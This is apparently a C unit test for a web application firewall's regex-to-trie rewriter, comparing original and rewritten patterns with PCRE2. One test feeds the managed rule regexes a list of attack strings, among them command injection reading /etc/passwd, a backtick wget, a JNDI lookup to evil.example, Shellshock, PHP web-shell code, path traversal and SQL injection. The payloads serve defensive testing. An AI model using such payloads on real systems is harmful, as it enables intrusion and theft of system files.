/*
 * Word alternations rewritten as tries (src/waf/regex_trie.c).  What must
 * hold: the rewritten pattern matches exactly where the original does and
 * reports the same span — PCRE2 is the judge, on crafted patterns, on
 * thousands of random alternations of overlapping words (prefixes of each
 * other, quantified last bytes, classes, nested groups, empty branches,
 * caseless) and on every regex of the managed rule groups.
 */
#include "mamori/waf.h"
#include "testutil.h"
#include "waf/waf_internal.h"

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

static unsigned rnd(unsigned long long *st)
{
	*st ^= *st << 13;
	*st ^= *st >> 7;
	*st ^= *st << 17;
	return (unsigned)(*st >> 11);
}

static pcre2_code *compile(const char *re, bool caseless)
{
	int ec;
	PCRE2_SIZE off;
	return pcre2_compile((PCRE2_SPTR)re, PCRE2_ZERO_TERMINATED, caseless ? PCRE2_CASELESS : 0, &ec,
			     &off, NULL);
}

/* The same verdict and span from both codes on every subject; returns the
 * matches seen. */
static long same_matches(const char *re, pcre2_code *a, pcre2_code *b, const char *const *subjects,
			 size_t ns)
{
	pcre2_match_data *ma = pcre2_match_data_create(1, NULL);
	pcre2_match_data *mb = pcre2_match_data_create(1, NULL);
	long matches = 0;
	for (size_t i = 0; i < ns; i++) {
		size_t n = strlen(subjects[i]);
		int ra = pcre2_match(a, (PCRE2_SPTR)subjects[i], n, 0, 0, ma, NULL);
		int rb = pcre2_match(b, (PCRE2_SPTR)subjects[i], n, 0, 0, mb, NULL);
		if ((ra >= 0) != (rb >= 0))
			fail_msg("%s: \"%s\": original %d, rewritten %d", re, subjects[i], ra, rb);
		if (ra >= 0) {
			PCRE2_SIZE *oa = pcre2_get_ovector_pointer(ma), *ob = pcre2_get_ovector_pointer(mb);
			if (oa[0] != ob[0] || oa[1] != ob[1])
				fail_msg("%s: \"%s\": span %zu-%zu, rewritten %zu-%zu", re, subjects[i],
					 (size_t)oa[0], (size_t)oa[1], (size_t)ob[0], (size_t)ob[1]);
			matches++;
		}
	}
	pcre2_match_data_free(ma);
	pcre2_match_data_free(mb);
	return matches;
}

/* Rewrite re and compare on the subjects; returns matches, -1 when the
 * pattern was not rewritten. */
static long check(const char *re, bool caseless, const char *const *subjects, size_t ns)
{
	pcre2_code *a = compile(re, caseless);
	if (!a)
		return -1;
	char *t = waf_regex_trie(re, caseless);
	if (!t) {
		pcre2_code_free(a);
		return -1;
	}
	pcre2_code *b = compile(t, caseless);
	long m = -1;
	if (b) /* a rewrite PCRE2 refuses (a lookbehind) is not used */
		m = same_matches(re, a, b, subjects, ns);
	pcre2_code_free(a);
	pcre2_code_free(b);
	free(t);
	return m;
}

static void crafted(void **state)
{
	(void)state;
	static const struct {
		const char *re, *want;
	} cases[] = {
		{"(?:cat|cut|curl|tac)", "(?:c(?:at|u(?:t|rl))|tac)"},
		{"cat|cut", "c(?:at|ut)"},
		{"(?i)(?:Cat|cut)", "(?i)(?:C(?:at|ut))"},
		/* "at" before "attr": the shorter branch still tried first */
		{"(?:at|attr|b)", "(?:at(?:|tr)|b)"},
		{"(?:attr|at)", "(?:at(?:tr|))"},
		/* a branch ending here between two that go on: left as written */
		{"(?:ab|a|abc)", "(?:a(?:b||bc))"},
		/* a quantified byte is not part of the shared prefix */
		{"(?:ab?|ac)", "(?:a(?:b?|c))"},
		{"(?:python[23]?|perl|php)", "(?:p(?:ython[23]?|erl|hp))"},
		{"\\.|%2e|%2f", "\\.|%2(?:e|f)"},
		{"(?:x\\x41|xa)", "(?:x(?:\\x41|a))"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		char *t = waf_regex_trie(cases[i].re, false);
		assert_non_null(t);
		if (strcmp(t, cases[i].want) != 0)
			fail_msg("%s: got %s, want %s", cases[i].re, t, cases[i].want);
		free(t);
	}
	/* nothing to merge, or constructs the rewrite does not follow */
	static const char *const kept[] = {
		"abc",	      "(?:a|b|c)",	"(a|ab)\\1",	 "(?:ab|ac)(?i:x)", "\\Qab|ac\\E",
		"(?P<n>ab|ac)", "(*UTF)(?:ab|ac)", "(?(1)ab|ac)", "(?x)ab|ac",	     "[ab|ac]",
	};
	for (size_t i = 0; i < sizeof kept / sizeof *kept; i++) {
		char *t = waf_regex_trie(kept[i], false);
		if (t)
			fail_msg("%s was rewritten as %s", kept[i], t);
	}
}

/* A random alternation of words over a small alphabet, so that branches
 * share prefixes and are prefixes of each other. */
static void gen_alt(mamori_buf *b, unsigned long long *st, int depth)
{
	static const char *const atoms[] = {"a", "b", "A", "\\.", "\\x61", "%", "2"};
	static const char *const tails[] = {"", "", "", "", "?", "*", "+", "{2}", "[ab]",
					    "\\d", "(?=b)", "\\b", "$"};
	int branches = 1 + (int)(rnd(st) % 6);
	for (int i = 0; i < branches; i++) {
		if (i)
			mamori_buf_putc(b, '|');
		int len = (int)(rnd(st) % 4);
		for (int k = 0; k < len; k++)
			mamori_buf_puts(b, atoms[rnd(st) % (sizeof atoms / sizeof *atoms)]);
		mamori_buf_puts(b, tails[rnd(st) % (sizeof tails / sizeof *tails)]);
		if (depth > 0 && rnd(st) % 4 == 0) {
			static const char *const open[] = {"(?:", "(", "(?>", "(?!"};
			mamori_buf_puts(b, open[rnd(st) % 4]);
			gen_alt(b, st, depth - 1);
			mamori_buf_puts(b, rnd(st) % 3 ? ")" : ")+");
			if (rnd(st) % 2)
				mamori_buf_puts(b, atoms[rnd(st) % (sizeof atoms / sizeof *atoms)]);
		}
	}
}

static void random_alternations(void **state)
{
	(void)state;
	unsigned long long st = 0xC0FFEE1234567ull;
	enum { NS = 200 };
	static char subj[NS][12];
	const char *subjects[NS];
	static const char alpha[] = "abAB.%2x";
	for (int i = 0; i < NS; i++) {
		int n = (int)(rnd(&st) % 10);
		for (int k = 0; k < n; k++)
			subj[i][k] = alpha[rnd(&st) % (sizeof alpha - 1)];
		subj[i][n] = 0;
		subjects[i] = subj[i];
	}
	long matches = 0, rewritten = 0;
	for (int r = 0; r < 8000; r++) {
		mamori_buf b = MAMORI_BUF_INIT;
		bool caseless = rnd(&st) % 4 == 0;
		if (rnd(&st) % 2)
			mamori_buf_puts(&b, "x?(?:");
		gen_alt(&b, &st, 2);
		if (b.data && !strncmp(b.data, "x?(?:", 5))
			mamori_buf_putc(&b, ')');
		long m = check(b.data ? b.data : "", caseless, subjects, NS);
		if (m >= 0) {
			rewritten++;
			matches += m;
		}
		mamori_buf_free(&b);
	}
	print_message("%ld of 8000 rewritten, %ld matches compared\n", rewritten, matches);
	/* the test means something only if many patterns were rewritten and matched */
	assert_true(rewritten > 1000);
	assert_true(matches > 100000);
}

/* Every regex of the managed rule groups, on attack-like and ordinary text. */
static void managed_rule_regexes(void **state)
{
	(void)state;
	static const char *const subjects[] = {
		"",
		"; cat /etc/passwd",
		"|id",
		"`wget http://x/y`",
		"cat /etc/shadow",
		"  /bin/cat /etc/hosts",
		"../../../../etc/passwd",
		"..%2f..%2f..%2fetc%2fpasswd",
		"%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
		"eval(base64_decode($_POST['x']))",
		"system('ls -la');",
		"<?php echo shell_exec($_GET['c']); ?>",
		"${jndi:ldap://evil.example/a}",
		"() { :; }; /bin/bash -c 'id'",
		"file:///etc/passwd",
		"php://filter/convert.base64-encode/resource=index",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
		"running shoes",
		"/api/v1/reviews",
		"The cat sat on the mat; then it ran.",
		"{{7*7}}",
		"<script>alert(1)</script>",
		"SELECT * FROM users WHERE id = 1 OR 1=1 --",
		"\nls -la /tmp",
		"x=1&y=2;z=$(whoami)",
	};
	const char *const files[] = {
		"AWSManagedRulesCommonRuleSet.json",  "AWSManagedRulesKnownBadInputsRuleSet.json",
		"AWSManagedRulesLinuxRuleSet.json",   "AWSManagedRulesPHPRuleSet.json",
		"AWSManagedRulesSQLiRuleSet.json",    "AWSManagedRulesUnixRuleSet.json",
		"AWSManagedRulesWindowsRuleSet.json", "MamoriManagedRulesInjectionRuleSet.json",
	};
	const char *src = getenv("MAMORI_SOURCE_DIR");
	if (!src)
		skip();
	mamori_ctx *ctx = mamori_ctx_new();
	long rewritten = 0;
	for (size_t f = 0; f < sizeof files / sizeof *files; f++) {
		char path[4096];
		snprintf(path, sizeof path, "%s/rules/waf/%s", src, files[f]);
		mamori_buf text = MAMORI_BUF_INIT;
		assert_int_equal(mamori_buf_read_file(ctx, &text, path, 0), MAMORI_OK);
		/* every "RegexString": "..." value, unescaped as JSON */
		const char *p = text.data;
		while ((p = strstr(p, "\"RegexString\"")) != NULL) {
			p = strchr(p + 13, '"');
			if (!p)
				break;
			mamori_buf re = MAMORI_BUF_INIT;
			for (p++; *p && *p != '"'; p++) {
				if (*p == '\\' && p[1]) {
					p++;
					char c = *p == 'n' ? '\n' : *p == 't' ? '\t' : *p == 'r' ? '\r' : *p;
					if (*p == 'u') {
						unsigned v = (unsigned)strtoul((char[5]){p[1], p[2], p[3], p[4], 0}, NULL, 16);
						c = (char)v;
						p += 4;
					}
					mamori_buf_putc(&re, c);
				} else {
					mamori_buf_putc(&re, *p);
				}
			}
			for (int ci = 0; ci < 2; ci++)
				rewritten += check(re.data ? re.data : "", ci, subjects,
						   sizeof subjects / sizeof *subjects) >= 0;
			mamori_buf_free(&re);
		}
		mamori_buf_free(&text);
	}
	mamori_ctx_free(ctx);
	assert_true(rewritten > 40);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(crafted),
		cmocka_unit_test(random_alternations),
		cmocka_unit_test(managed_rule_regexes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
